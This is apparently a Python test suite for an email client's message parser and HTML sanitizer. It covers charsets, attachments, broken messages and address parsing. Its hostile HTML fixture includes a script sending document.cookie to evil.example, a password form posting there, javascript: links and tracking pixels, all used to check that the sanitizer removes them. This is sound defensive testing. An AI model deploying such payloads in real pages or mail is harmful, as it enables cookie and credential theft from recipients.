"""Parsing and sanitizing single messages: readable headers whatever the charset, safe HTML
with nothing remote left in it, attachments within the size limit, and broken messages kept
with a "could not be displayed fully" problem instead of an exception."""

from __future__ import annotations

import datetime as dt
import hashlib
import random
from email.message import EmailMessage
from email.utils import getaddresses
from html.parser import HTMLParser

from app.mail.html import sanitize_email_html
from app.mail.parse import (
    PROBLEM_CHARACTERS,
    PROBLEM_DAMAGED,
    content_hash,
    may_have_attachments,
    parse_headers,
    parse_message,
    simple_addresses,
)

HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/track.css">
<style>@import url("https://evil.example/a.css"); body { background: url(https://evil.example/bg.png) }</style>
<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
</head><body onload="alert(1)" background="https://evil.example/body.png">
<p style="color: #333; background-image: url('https://evil.example/p.png'); font-weight: bold">Hello
<img src="https://evil.example/pixel.gif" width="1" height="1">
<img src="http://evil.example/logo.png" alt="logo">
<img src="cid:logo@example" alt="inline">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="embedded">
<img srcset="https://evil.example/2x.png 2x">
<a href="https://good.example/page" onclick="steal()">a link</a>
<a href="javascript:alert(1)">bad link</a></p>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/post"><input name="pw" type="password"><button>Go</button></form>
<table background="https://evil.example/t.png"><tr><td style="width: 100px">cell</td></tr></table>
<svg><image href="https://evil.example/svg.png"/></svg>
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>
<object data="https://evil.example/o.swf"></object>
</body></html>"""


class _Resources(HTMLParser):
    """Every (tag, attribute, value) of the sanitized output."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            self.found.append((tag, name, value or ""))


def _attributes(html: str) -> list[tuple[str, str, str]]:
    parser = _Resources()
    parser.feed(html)
    return parser.found


def test_hostile_html_keeps_no_remote_resource_no_script_no_form():
    clean = sanitize_email_html(HOSTILE_HTML)
    attrs = _attributes(clean)
    for tag, name, value in attrs:
        if tag == "a" and name in ("href", "title"):
            assert value.startswith(("https://", "http://", "mailto:")), value
            continue
        assert "http" not in value.lower(), (tag, name, value)  # no remote resource at all
        assert not name.startswith("on"), (tag, name)
    lowered = clean.lower()
    for gone in ("<script", "<style", "<link", "<meta", "<base", "<iframe", "<form", "<input",
                 "<button", "<svg", "<video", "<object", "javascript:", "url(", "@import",
                 "document.cookie", "background="):
        assert gone not in lowered, gone
    srcs = [v for t, n, v in attrs if t == "img" and n == "src"]
    assert srcs == ["cid:logo@example", "data:image/png;base64,iVBORw0KGgo="]
    # The link stays, marked, showing where it really goes; the script "link" is gone.
    assert ("a", "href", "https://good.example/page") in attrs
    assert ("a", "class", "external-link") in attrs
    assert ("a", "title", "https://good.example/page") in attrs
    assert ("a", "rel", "noopener noreferrer nofollow") in attrs
    assert "a link" in clean and "bad link" in clean and "Hello" in clean and "cell" in clean
    assert ("p", "style", "color: #333; font-weight: bold") in attrs
    assert ("td", "style", "width: 100px") in attrs


def _mail(**headers) -> EmailMessage:
    m = EmailMessage()
    m["From"] = headers.pop("From", "Client <client@example.org>")
    m["To"] = headers.pop("To", "practitioner@example.test")
    m["Subject"] = headers.pop("Subject", "Hello")
    m["Date"] = "Tue, 01 Dec 2026 10:00:00 +0100"
    m["Message-ID"] = "<one@example.org>"
    for name, value in headers.items():
        m[name.replace("_", "-")] = value
    return m


def test_headers_addresses_and_threading_ids():
    m = _mail(From="José Pérez <Jose.Perez@Example.org>", To='a@x.example, "Doe, J" <j@y.example>',
              Cc="c@z.example", Subject="Olá, çava?", In_Reply_To="<parent@x>",
              References="<root@x>  <parent@x>")
    m.set_content("Text body")
    p = parse_message(m.as_bytes())
    assert p.subject == "Olá, çava?"
    assert [(a.name, a.address) for a in p.from_] == [("José Pérez", "Jose.Perez@Example.org")]
    assert [a.address for a in p.to] == ["a@x.example", "j@y.example"]
    assert p.to[1].display() == '"Doe, J" <j@y.example>'
    assert p.addresses() == [("from", "jose.perez@example.org"), ("to", "a@x.example"),
                             ("to", "j@y.example"), ("cc", "c@z.example")]
    assert p.sent_at == dt.datetime(2026, 12, 1, 9, 0, tzinfo=dt.UTC)
    assert (p.message_id, p.in_reply_to, p.references) == ("<one@example.org>", "<parent@x>",
                                                           ("<root@x>", "<parent@x>"))
    assert p.body_text == "Text body" and p.problem == ""
    assert p.content_hash == content_hash(m.as_bytes())


def test_html_only_message_gets_a_text_version_and_inline_images_keep_their_cid():
    m = _mail()
    m.set_content("<p>Dear <b>Ana</b>,</p><p><img src='cid:sig@x'></p>", subtype="html")
    m.add_related(b"\x89PNG fake", maintype="image", subtype="png", cid="<sig@x>")
    p = parse_message(m.as_bytes())
    assert "Dear Ana," in p.body_text
    assert 'src="cid:sig@x"' in p.body_html
    (image,) = p.attachments
    assert (image.mime_type, image.content_id, image.content) == ("image/png", "sig@x",
                                                                  b"\x89PNG fake")


def test_attachments_within_the_limit_are_kept_larger_ones_listed_with_their_section():
    m = _mail()
    m.set_content("See attached.")
    m.add_attachment(b"%PDF small", maintype="application", subtype="pdf",
                     filename="../../etc/invoice.pdf")
    m.add_attachment(b"x" * 5000, maintype="application", subtype="zip", filename="big.zip")
    inner = _mail(Subject="Forwarded one")
    inner.set_content("inner")
    m.add_attachment(inner)
    p = parse_message(m.as_bytes(), attachment_limit=4000)
    small, big, forwarded = p.attachments
    assert (small.filename, small.content, small.part) == ("invoice.pdf", b"%PDF small", "")
    assert (big.filename, big.size, big.content, big.part) == ("big.zip", 5000, None, "3")
    assert forwarded.mime_type == "message/rfc822" and b"Forwarded one" in forwarded.content
    assert p.body_text == "See attached."


def test_a_placeholder_from_a_partial_fetch_is_listed_as_on_the_server():
    raw = (b"From: a@x.example\r\nSubject: scan\r\nMIME-Version: 1.0\r\n"
           b"Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n"
           b"Content-Type: text/plain\r\n\r\nHere it is.\r\n--b1\r\n"
           b"Content-Type: application/pdf; name=\"scan.pdf\"\r\n"
           b"Content-Disposition: attachment; filename=\"scan.pdf\"\r\n"
           b"Content-Transfer-Encoding: base64\r\n"
           b"X-Consulta-Omitted: section=2; size=31457280\r\n\r\n\r\n--b1--\r\n")
    p = parse_message(raw, raw_partial=True, size=41_000_000)
    (scan,) = p.attachments
    assert (scan.filename, scan.size, scan.content, scan.part) == ("scan.pdf", 31457280, None,
                                                                  "2")
    assert p.body_text == "Here it is." and p.raw_partial and p.size == 41_000_000
    assert p.problem == ""


def test_a_correctly_declared_legacy_charset_reads_without_a_problem():
    raw = (b"From: =?iso-8859-1?q?Jos=E9?= <jose@example.org>\r\nSubject: =?iso-8859-1?q?Caf=E9?=\r\n"
           b"Content-Type: text/plain; charset=iso-8859-1\r\n"
           b"Content-Transfer-Encoding: 8bit\r\n\r\n") + "Olá, está?".encode("latin-1")
    p = parse_message(raw)
    assert (p.subject, p.from_[0].name, p.body_text, p.problem) == ("Café", "José",
                                                                    "Olá, está?", "")


def test_undeclared_8bit_text_is_read_and_flagged():
    raw = b"From: Jos\xe9 <jose@example.org>\r\nSubject: Caf\xe9\r\n\r\nna\xefve body\r\n"
    p = parse_message(raw)
    assert (p.subject, p.from_[0].name, p.body_text) == ("Café", "José", "naïve body")
    assert p.problem == PROBLEM_CHARACTERS
    utf8 = parse_message("Subject: Olá\r\nFrom: a@x.example\r\n\r\nçà".encode())
    assert (utf8.subject, utf8.body_text, utf8.problem) == ("Olá", "çà", "")


def test_wrong_or_unknown_charsets_are_flagged_not_fatal():
    wrong = (b"From: a@x.example\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
             b"caf\xe9 au lait")
    p = parse_message(wrong)
    assert p.problem == PROBLEM_CHARACTERS and p.body_text.startswith("caf")
    unknown = b"From: a@x.example\r\nContent-Type: text/plain; charset=x-klingon\r\n\r\nqapla'"
    p = parse_message(unknown)
    assert p.problem == PROBLEM_CHARACTERS and p.body_text == "qapla'"


def test_broken_structure_and_garbage_are_kept_with_a_problem():
    no_boundary = b"From: a@x.example\r\nContent-Type: multipart/mixed\r\n\r\nno parts here"
    assert parse_message(no_boundary).problem == PROBLEM_DAMAGED
    bad_base64 = (b"From: a@x.example\r\nContent-Type: text/plain\r\n"
                  b"Content-Transfer-Encoding: base64\r\n\r\n@@@not base64!!\r\n")
    assert parse_message(bad_base64).problem == PROBLEM_DAMAGED
    garbage = bytes(range(256)) * 4
    p = parse_message(garbage)
    assert p.problem and p.content_hash == content_hash(garbage)
    assert "\x00" not in p.body_text
    empty = parse_message(b"")
    assert empty.subject == "" and empty.attachments == ()


def test_non_ascii_file_names_in_both_encodings():
    m = _mail()
    m.set_content("two files")
    m.add_attachment(b"a", maintype="application", subtype="pdf", filename="Fatura nº 7.pdf")
    raw = m.as_bytes()
    old_style = (b"From: a@x.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                 b"--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\n"
                 b"Content-Type: application/pdf\r\nContent-Disposition: attachment; "
                 b"filename=\"=?utf-8?q?Fa=C3=A7tura.pdf?=\"\r\n\r\nx\r\n--b--\r\n")
    assert [a.filename for a in parse_message(raw).attachments] == ["Fatura nº 7.pdf"]
    assert [a.filename for a in parse_message(old_style).attachments] == ["Façtura.pdf"]


def test_the_quick_address_reading_agrees_with_the_email_package_wherever_it_answers():
    rng = random.Random(7)
    pieces = ["a", "Ana", "José", "x.y", "a@b.example", "Ana <ana@x.example>", "<c@d.example>",
              " ", "\t", ",", ".", "@", "<", ">", '"', "(", ")", ":", ";", "[", "]", "\\", "é",
              "=?utf-8?q?Jos=C3=A9?=", "\x0c", "\xa0", "'", "a..b@c", "x@.", "q@w@e", "Dr. Who"]
    answered = 0
    for _ in range(20_000):
        value = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 7)))
        quick = simple_addresses(value)
        if quick is None:
            continue
        answered += 1
        assert _normalised(quick) == _normalised(getaddresses([value])), value
    assert answered > 500
    assert simple_addresses('Ana <a@x.example>, b@y.example') == [("Ana", "a@x.example"),
                                                                  ("", "b@y.example")]
    assert simple_addresses('"Doe, J" <j@y.example>') is None  # quotes: the email package


def _normalised(pairs):
    return [(" ".join(d.split()), a.strip()) for d, a in pairs if "@" in a.strip()]


def test_headers_alone_give_what_the_full_parse_gives_but_no_bodies():
    m = _mail(To='a@x.example, "Doe, J" <j@y.example>', Subject="Olá", In_Reply_To="<p@x>")
    m.set_content("Text body")
    m.add_attachment(b"%PDF", maintype="application", subtype="pdf", filename="a.pdf")
    raw = m.as_bytes()
    full, quick = parse_message(raw), parse_headers(raw)
    for name in ("message_id", "subject", "from_", "to", "cc", "sent_at", "in_reply_to",
                 "references", "content_hash", "size"):
        assert getattr(quick, name) == getattr(full, name), name
    assert (quick.body_text, quick.body_html, quick.attachments) == ("", "", ())
    assert full.attachments and may_have_attachments(raw)
    assert parse_headers(b"\x00\x01 garbage \xff").problem == PROBLEM_CHARACTERS


def test_the_attachment_guess_follows_the_parts_a_full_parse_would_list():
    plain = _mail()
    plain.set_content("only text")
    alternative = _mail()
    alternative.set_content("text")
    alternative.add_alternative("<p>html</p>", subtype="html")
    inline_image = _mail()
    inline_image.set_content("<p><img src='cid:i@x'></p>", subtype="html")
    inline_image.add_related(b"\x89PNG", maintype="image", subtype="png", cid="<i@x>")
    for m, expected in ((plain, False), (alternative, False), (inline_image, True)):
        raw = m.as_bytes()
        assert may_have_attachments(raw) is expected is bool(parse_message(raw).attachments)
    assert may_have_attachments(b"Subject: x\r\nX-Consulta-Omitted: section=2; size=9\r\n\r\n")


def test_content_hash_is_sha256_of_the_whole_message_at_every_size():
    for n in (0, 1, 2047, 2048, 6000, 256 * 1024, 256 * 1024 + 1, 600_000):
        data = random.Random(n).randbytes(n)
        assert content_hash(data) == hashlib.sha256(data).hexdigest()
